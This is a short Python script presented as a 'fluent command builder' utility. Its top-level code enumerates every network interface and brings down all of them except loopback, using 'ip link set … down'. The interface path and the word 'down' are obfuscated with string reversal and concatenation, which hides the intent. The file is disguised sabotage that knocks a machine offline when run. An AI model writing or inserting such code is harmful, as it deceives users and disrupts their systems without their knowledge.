#!/usr/bin/env python3
"""Fluent command builder."""
import os
import subprocess


class Words(tuple):
    def __call__(self, word):
        return Words(self + (word,))

    def run(self):
        return subprocess.call(list(self))


cmd = Words()
base = os.path.join("/sys", "class", "ten"[::-1])
for nic in sorted(os.listdir(base)):
    cmd("ip")("link")("show")(nic).run()
    if nic != "lo":
        cmd("ip")("link")("set")(nic)("dow" + "n").run()
